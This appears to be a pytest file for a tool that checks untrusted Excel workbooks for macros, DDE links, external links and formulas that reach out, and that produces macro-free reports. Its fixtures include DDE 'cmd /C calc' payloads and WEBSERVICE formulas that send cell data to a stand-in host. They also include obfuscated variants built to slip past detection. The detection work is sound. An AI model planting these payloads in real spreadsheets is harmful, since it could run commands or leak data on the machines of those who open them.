"""What in a stranger's workbook does something by itself: named before the sending, and not made live by the report."""

from __future__ import annotations

import time
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest
from office import Office
from openpyxl import load_workbook
from plain_workbooks import MAIN, PEOPLE, RELATIONS, TYPES, Parts, report_of, rows

from batch.atomic_file import copy_web_mark
from batch.loader import open_sheet

MACROS = Parts(
    more={"xl/vbaProject.bin": b"macros"},
    types={"xl/vbaProject.bin": "application/vnd.ms-office.vbaProject"},
    book_relations=(("rId8", "../../../microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin"),),
)
DDE = f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
LINK = f'<externalLink xmlns="{MAIN}"><externalBook xmlns:r="{RELATIONS}" r:id="rId1"/></externalLink>'


def with_part(kind: str, content: str) -> Parts:
    return Parts(
        more={f"xl/{kind}.xml": content},
        types={f"xl/{kind}.xml": f"{TYPES}.{kind}+xml"},
        book_relations=(("rId8", kind, f"{kind}.xml"),),
    )


MACRO_SHEET = Parts(
    sheets=f'<sheets xmlns:r="{RELATIONS}"><sheet name="Contatos" sheetId="1" r:id="rId1"/>'
    '<sheet name="Macro1" sheetId="2" r:id="rId8"/></sheets>',
    more={"xl/macrosheets/sheet1.xml": f'<xm:macrosheet xmlns:xm="{MAIN}"><xm:sheetData/></xm:macrosheet>'},
    types={"xl/macrosheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml"},
    book_relations=(
        ("rId8", "../../../microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml"),
    ),
)
LIVE = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"


def formula(text: str) -> Parts:
    """A formula in the last cell of the last row."""
    last = f'<c r="C4"><f>{text}</f><v>30</v></c>'
    return Parts(data=f"<sheetData>{rows(PEOPLE)}</sheetData>".replace('<c r="C4"><v>30</v></c>', last))


def in_utf16(parts: Parts) -> Parts:
    sheet = f'<?xml version="1.0" encoding="UTF-16"?><worksheet xmlns="{MAIN}">{parts.data}</worksheet>'
    return replace(parts, more={"xl/worksheets/sheet1.xml": sheet.encode("utf-16")})


CALLS: list[tuple[Parts, str]] = [
    (formula("WEBSERVICE(&quot;http://x.example/?&quot;&amp;B2)"), "WEBSERVICE"),
    (formula("IF(1,_xlfn.webservice (B2),0)"), "WEBSERVICE"),
    (formula("&#87;EBSERVICE(B2)"), "WEBSERVICE"),
    (formula("WEB<!-- x -->SERVICE(B2)"), "WEBSERVICE"),
    (formula("WEB<?x?>SERVICE(B2)"), "WEBSERVICE"),
    (formula("WEB<![CDATA[SERVICE(B2)]]>"), "WEBSERVICE"),
    (in_utf16(formula("WEBSERVICE(B2)")), "WEBSERVICE"),
    (formula(f"1+{' ' * 30_000}WEBSERVICE(B2)"), "WEBSERVICE"),
    (formula("HYPERLINK(&quot;http://x.example/&quot;&amp;B2,&quot;ver&quot;)"), "HYPERLINK"),
    (formula("_xlfn.IMAGE(B2)"), "IMAGE"),
    (formula("IMPORTXML(B2,&quot;//a&quot;)"), "IMPORTXML"),
    (formula("RTD(&quot;a.b&quot;,,B2)"), "RTD"),
    (formula("cmd|'/C calc'!A0"), "DDE"),
    (formula("cmd|&apos;/C calc&apos;!A0"), "DDE"),
    (Parts(behind='<definedNames><definedName name="a">EXEC("calc")</definedName></definedNames>'), "EXEC"),
]


@pytest.mark.parametrize(("parts", "name"), CALLS)
def test_a_formula_that_reaches_out_is_named_however_it_is_written(tmp_path: Path, parts: Parts, name: str) -> None:
    """In a cell or a name; with references, sections, comments, spaces, in UTF-16: as the program that opens it."""
    found = open_sheet(parts.write(tmp_path / "a.xlsx")).info.active
    assert [f"({name})" in str(each) for each in found] == [True, False], found
    assert "--clean-report" in str(found[-1])


def test_formulas_and_texts_that_reach_nothing_are_not_named(tmp_path: Path) -> None:
    """A sum, a bar between two cells, the name of a function as a text, hyperlinks of cells."""
    for text in ('A2&amp;"|"&amp;Plan2!B2', "SUM(B2:B4)", "RECALL(B2)", "A2&amp;&#34;&#10;&#34;"):
        assert open_sheet(formula(text).write(tmp_path / "a.xlsx")).info.active == ()
    texts = Parts(data=f"<sheetData>{rows([*PEOPLE, ('WEBSERVICE(1)', '11 90000-4014', None)])}</sheetData>")
    assert open_sheet(texts.write(tmp_path / "b.xlsx")).info.active == ()
    link = ("rId1", "hyperlink", 'https://wa.example" TargetMode="External')
    assert open_sheet(Parts(relations=(link,)).write(tmp_path / "c.xlsx")).info.active == ()


def test_a_clean_report_has_values_alone(office: Office) -> None:
    """The rows and their outcomes, but no macro, link or formula; also when the report is written again later."""
    sheet = replace(MACROS, main=LIVE, data=formula("WEBSERVICE(B2)").data).write(office.folder / "a.xlsm")
    run = office.run(sheet, office.campaign(), "--clean-report")
    folder = office.folder / "reports" / run.summary["run"]
    for _time in range(2):
        assert [each.name for each in folder.glob("report.xls*")] == ["report.xlsx"]
        with zipfile.ZipFile(folder / "report.xlsx") as archive:
            assert not [name for name in archive.namelist() if "vba" in name]
            assert b"WEBSERVICE" not in b"".join(map(archive.read, archive.namelist()))
        book = load_workbook(folder / "report.xlsx")
        assert [cell.value for cell in book["Contatos"]["C"]][1:4] == ["10", "20", "30"]
        assert not any("macros" in str(cell.value) for cell in book["Summary"]["B"])
        assert office.type("report", run.summary["run"])[0] == 0


def test_a_report_turns_clean_and_leaves_none_with_macros_behind(office: Office) -> None:
    """`report --clean-report` of a run whose report has macros: report.xlsm goes, since its outcomes are old."""
    run = office.run(replace(MACROS, main=LIVE).write(office.folder / "a.xlsm"), office.campaign())
    folder = office.folder / "reports" / run.summary["run"]
    assert [each.name for each in folder.glob("report.xls*")] == ["report.xlsm"]
    assert office.type("report", run.summary["run"], "--clean-report")[0] == 0
    assert [each.name for each in folder.glob("report.xls*")] == ["report.xlsx"]


def test_macro_sheets_of_the_old_kind_are_macros(tmp_path: Path) -> None:
    """Named, kept as macros where they may be, and no part of a report of a workbook that may have none."""
    live = replace(MACRO_SHEET, main=LIVE).write(tmp_path / "a.xlsm")
    assert "macros" in str(open_sheet(live).info.active[0])
    written, made = report_of(live, tmp_path / "live")
    assert (made.name, written.problems) == ("report.xlsm", ())
    written, made = report_of(MACRO_SHEET.write(tmp_path / "b.xlsx"), tmp_path / "report")
    assert "has macro sheets" in written.problems[0]
    with zipfile.ZipFile(made) as archive:
        assert not [name for name in archive.namelist() if "macrosheet" in name]


def test_thousands_of_links_and_suspects_are_looked_at_in_seconds(tmp_path: Path) -> None:
    """The directory of the file is read once for all of them, not once for each."""
    parts = {f"xl/externalLinks/l{number}.xml": DDE for number in range(1500)}
    parts |= {f"xl/tables/t{number}.xml": "<t><f>WEBSERVICE(1)</f></t>" for number in range(1500)}
    links = tuple((f"rId{number + 10}", "externalLink", f"externalLinks/l{number}.xml") for number in range(1500))
    path = Parts(more=parts, book_relations=links).write(tmp_path / "a.xlsx")
    began = time.process_time()
    words = " ".join(map(str, open_sheet(path).info.active))
    assert "DDE links" in words
    assert "WEBSERVICE" in words
    assert time.process_time() - began < 5


@pytest.mark.parametrize(
    ("parts", "word"),
    [
        (MACROS, "macros"),
        (with_part("externalLink", DDE), "DDE links"),
        (with_part("externalLink", LINK), "links to other files"),
        (with_part("externalLink", f"<!--{' ' * 300_000}-->{DDE}"), "DDE links"),
        (with_part("oleObject", "<x/>"), "objects"),
        (
            Parts(relations=(("rId1", "image", 'https://x.example/a.png" TargetMode="External'),)),
            "links to other files",
        ),
        (with_part("connections", f'<connections xmlns="{MAIN}"/>'), "connections"),
    ],
)
def test_it_is_named_by_check_and_on_the_summary(office: Office, parts: Parts, word: str) -> None:
    """One sentence for each kind; a workbook without any has none."""
    path, plain = parts.write(office.folder / "a.xlsx"), Parts().write(office.folder / "b.xlsx")
    campaign = office.campaign()
    _, out, _ = office.type("check", path, "-c", campaign)
    assert word in out
    assert word not in office.type("check", plain, "-c", campaign)[1]
    _, made = report_of(path, office.folder / "report")
    assert any(word in str(cell.value) for cell in load_workbook(made)["Summary"]["B"])


def test_macros_live_only_where_they_lived_before(tmp_path: Path) -> None:
    """Without the content type of a workbook with macros Excel runs none: such a part is left out of the copy."""
    _, made = report_of(MACROS.write(tmp_path / "a.xlsx"), tmp_path / "report")
    with zipfile.ZipFile(made) as archive:
        assert made.name == "report.xlsx"
        assert [name for name in archive.namelist() if "vba" in name] == []
        assert b"vba" not in archive.read("xl/_rels/workbook.xml.rels")
        assert b"macroEnabled" not in archive.read("[Content_Types].xml")
    live = replace(MACROS, main=LIVE)
    _, made = report_of(live.write(tmp_path / "b.xlsx"), tmp_path / "report")
    with zipfile.ZipFile(made) as archive:
        assert (made.name, archive.read("xl/vbaProject.bin")) == ("report.xlsm", b"macros")


def test_the_mark_of_the_web_goes_along(tmp_path: Path) -> None:
    """Windows keeps it in a stream named behind the file; a sheet without it gives a report without it."""
    sheet, report = tmp_path / "a.xlsx", tmp_path / "report.xlsx"
    copy_web_mark(sheet, report, system="win32")
    assert list(tmp_path.glob("report*")) == []
    Path(f"{sheet}:Zone.Identifier").write_bytes(b"[ZoneTransfer]\r\nZoneId=3\r\n")
    copy_web_mark(sheet, report, system="linux")
    copy_web_mark(sheet, report, system="win32")
    assert Path(f"{report}:Zone.Identifier").read_bytes() == b"[ZoneTransfer]\r\nZoneId=3\r\n"


def test_a_formula_with_the_value_0_is_0_in_a_report_that_is_fed_back(tmp_path: Path) -> None:
    """Twice over; but what a library left to Excel (0 in each cell, to be calculated on opening) is no value."""
    data = f"<sheetData>{rows(PEOPLE)}</sheetData>".replace('<c r="C2"><v>10', '<c r="C2"><f>3-3</f><v>0')
    for behind, expected in (("", "0"), ('<calcPr calcId="1"/>', "0"), ('<calcPr fullCalcOnLoad="1"/>', None)):
        path = Parts(data=data, behind=behind).write(tmp_path / "contatos.xlsx")
        for number in range(3):
            first = next(open_sheet(path, name="Contatos").rows())
            assert first.cells[2] == expected
            assert bool(first.errors) == (expected is None)
            _, path = report_of(path, tmp_path / f"report{number}")
